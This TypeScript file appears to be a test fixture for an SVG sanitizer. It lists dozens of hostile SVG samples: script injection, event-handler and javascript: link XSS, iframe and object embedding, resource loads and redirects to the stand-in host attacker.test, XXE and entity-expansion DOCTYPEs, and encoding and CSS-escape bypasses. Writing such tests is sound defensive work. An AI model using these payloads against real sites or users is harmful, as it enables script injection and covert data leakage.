/** Drawings in SVG that run code, load something or lead away where they are opened by themselves. As in `attacks.ts`: `pwned()` or attacker.test. */
const names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const host = 'https://attacker.test/';

const wrap = (content: string, attributes = ''): string =>
  `<svg ${names} width="99" height="99"${attributes}>${content}<rect width="9" height="9"/></svg>`;

const scripts = [
  '<script>pwned()</script>',
  '<script type="text/javascript"><![CDATA[pwned()]]></script>',
  `<script href="${host}x.js"/>`,
  `<script xlink:href="${host}x.js"/>`,
  '<script href="data:text/javascript,pwned()"/>',
  '<s:script xmlns:s="http://www.w3.org/2000/svg">pwned()</s:script>',
  '<h:script xmlns:h="http://www.w3.org/1999/xhtml">pwned()</h:script>',
  '<script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>',
  '<g><defs><title><script>pwned()</script></title></defs></g>',
  '<style><script>pwned()</script></style>',
  '<desc>&lt;script&gt;</desc><script>pwned()</script>',
  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwned()</handler>',
];

const foreign = [
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="pwned()"/></body></foreignObject>',
  `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}"/></foreignObject>`,
  '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"/></foreignObject>',
  `<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${host}"/>`,
  `<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${host}x.css"/>`,
  '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="pwned()"/>',
  `<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${host}"/><use href="x.svg#a"/>`,
  '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="pwned()"/></html>',
  `<iframe src="${host}"/><embed src="${host}"/><object data="${host}"/><audio src="${host}"/><video src="${host}"/>`,
  '<x:object xmlns:x="http://www.w3.org/1999/xhtml" data="data:text/html,&lt;script&gt;pwned()&lt;/script&gt;"/>',
];

const handlers = [
  '<g onload="pwned()"/>',
  '<image href="data:image/png;base64,AA" onerror="pwned()"/>',
  '<animate attributeName="x" dur="1s" onbegin="pwned()"/>',
  '<set attributeName="x" to="1" onbegin="pwned()" begin="0s"/>',
  '<animate attributeName="opacity" dur="1ms" onend="pwned()" onrepeat="pwned()"/>',
  '<rect width="99" height="99" onmouseover="pwned()" onclick="pwned()" onfocus="pwned()" tabindex="0" autofocus=""/>',
  '<style onload="pwned()">a{}</style>',
];

const references = [
  `<image href="${host}x.png"/>`,
  `<image xlink:href="${host}x.png"/>`,
  '<image href="//attacker.test/x.png"/>',
  '<image href="\\\\attacker.test\\x.png"/>',
  `<image href="&#104;ttps://attacker.test/x.png"/>`,
  `<x:image xmlns:x="http://www.w3.org/2000/svg" xmlns:y="http://www.w3.org/1999/xlink" y:href="${host}x.png"/>`,
  `<feImage href="${host}x.png"/><filter id="f"><feImage href="${host}y.png"/></filter><g filter="url(#f)"/>`,
  `<use href="${host}x.svg#a"/>`,
  '<use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+cHduZWQoKTwvc2NyaXB0Pjwvc3ZnPg==#a"/>',
  `<g fill="url(${host}x.svg#a)"/>`,
  `<g fill="url('${host}x.svg#a')" mask="url( &quot;${host}m.svg#a&quot; )"/>`,
  `<rect width="9" height="9" filter="url(${host}x.svg#a)" clip-path="url(${host}c.svg#a)" cursor="url(${host}c.png),auto"/>`,
  `<linearGradient href="${host}x.svg#a"/><pattern xlink:href="${host}x.svg#a"/><textPath href="${host}x.svg#a"/>`,
  `<g xml:base="${host}"><use href="#a"/></g>`,
  `<color-profile xlink:href="${host}x.icc"/><font-face-uri xlink:href="${host}x.svg"/><cursor xlink:href="${host}x.png"/>`,
  `<mpath href="${host}x.svg#a"/><tref xlink:href="${host}x.svg#a"/><altGlyph xlink:href="${host}x.svg#a"/>`,
];

const styles = [
  `<style>@import "${host}x.css";</style>`,
  `<style>@import url(${host}x.css);</style>`,
  `<style>@\\69mport "${host}x.css";</style>`,
  `<style>@IMPORT/**/'${host}x.css' screen;</style>`,
  `<style><![CDATA[@import "${host}x.css";]]></style>`,
  `<style>@font-face{font-family:x;src:url(${host}x.woff2)}text{font-family:x}</style><text>x</text>`,
  `<style>rect{fill:url(${host}x.svg#a);cursor:url(${host}c.png),auto;background:url(${host}b.png)}</style>`,
  `<style>rect{background-image:image-set("${host}x.png" 1x)}</style>`,
  `<style>rect{background-image:-webkit-image-set(url(${host}x.png) 1x)}</style>`,
  `<style>rect{background-image:\\75\\72\\6c(${host}x.png)}</style>`,
  `<style>rect{background-image:u/**/rl(${host}x.png);mask-image:url("${host}m.png")}</style>`,
  `<style>svg{--x:url(${host}x.png);background-image:var(--x)}</style>`,
  `<style>@media all{@supports (x:y) or (fill:red){rect{mask:url(${host}m.svg#a)}}}</style>`,
  `<style>@keyframes k{from{background:url(${host}x.png)}}rect{animation:k 1s}</style>`,
  `<style>@namespace "${host}";rect{fill:red}</style>`,
  `<style>rect{fill:red}&lt;/style>&lt;script>pwned()&lt;/script></style>`,
  `<style>rect{behavior:url(${host}x.htc);-moz-binding:url(${host}x.xml)}</style>`,
  `<g style="background:url(${host}x.png);fill:url(${host}x.svg#a)"/>`,
  `<g style="background:\\75rl(&quot;${host}x.png&quot;)"/>`,
  `<g style="}rect{background:url(${host}x.png)"/>`,
];

const links = [
  '<a href="javascript:pwned()"><text y="9">x</text></a>',
  '<a xlink:href="javascript:pwned()"><text y="9">x</text></a>',
  '<a href="java&#10;script:pwned()"><text y="9">x</text></a>',
  '<a href="data:text/html,&lt;script&gt;pwned()&lt;/script&gt;" target="_top"><text y="9">x</text></a>',
  `<a href="${host}"><text y="9">x</text></a>`,
  '<a><set attributeName="href" to="javascript:pwned()"/><text y="9">x</text></a>',
  '<a><animate attributeName="xlink:href" values="javascript:pwned()"/><text y="9">x</text></a>',
  '<a id="l"><text y="9">x</text></a><set href="#l" attributeName="href" to="javascript:pwned()"/>',
  `<image id="i"><set attributeName="href" to="${host}x.png"/></image>`,
  `<use id="u" href="#x"/><animate href="#u" attributeName="href" from="#x" to="${host}x.svg#a" dur="1s"/>`,
  `<rect><animate attributeName="fill" from="red" to="url(${host}x.svg#a)" dur="1s"/></rect>`,
  `<rect><set attributeName="style" to="background:url(${host}x.png)"/></rect>`,
  '<rect><set attributeName="onclick" to="pwned()"/></rect>',
  `<discard begin="0s"/><animation xlink:href="${host}"/>`,
];

const documents = [
  `<?xml-stylesheet href="${host}x.css"?>${wrap('')}`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(`<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">pwned()</script></x:template></x:stylesheet>`)}"?>${wrap('')}`,
  `<!DOCTYPE svg SYSTEM "${host}x.dtd">${wrap('')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${host}x">]>${wrap('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY x "&#60;script>pwned()&#60;/script>">]>${wrap('&x;')}`,
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "pwned()">]>${wrap('')}`,
  `<!DOCTYPE svg [<!ATTLIST g onclick CDATA "pwned()" xmlns:x CDATA "x">]>${wrap('<g/>')}`,
  `<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>${wrap('<text>&c;</text>')}`,
  `<x:svg xmlns:x="http://www.w3.org/2000/svg" onload="pwned()"><x:script>pwned()</x:script></x:svg>`,
  wrap('', ' onload="pwned()"'),
  wrap('', ' onbegin="pwned()" onfocus="pwned()" onerror="pwned()"'),
  wrap('', ` style="background:url(${host}x.png)"`),
  `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>pwned()</script></body></html>`,
  `<!DOCTYPE html><script>pwned()</script>`,
  `<html><body><svg ${names}><script>pwned()</script></svg></body></html>`,
  `<script xmlns="http://www.w3.org/2000/svg">pwned()</script>`,
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`,
  `<?xml version="1.0" encoding="utf-7"?>${wrap('+ADw-script+AD4-pwned()+ADw-/script+AD4-')}`,
  `\uFEFF<?xml version="1.0"?>${wrap('<script>pwned()</script>')}`,
  `<svg ${names}><g></svg><script>pwned()</script>`,
];

const groups: Readonly<Record<string, readonly string[]>> = { scripts, foreign, handlers, references, styles, links };

export const drawings: readonly { readonly kind: string; readonly text: string }[] = [
  ...Object.entries(groups).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text: wrap(text) }))),
  ...documents.map((text) => ({ kind: 'documents', text })),
];
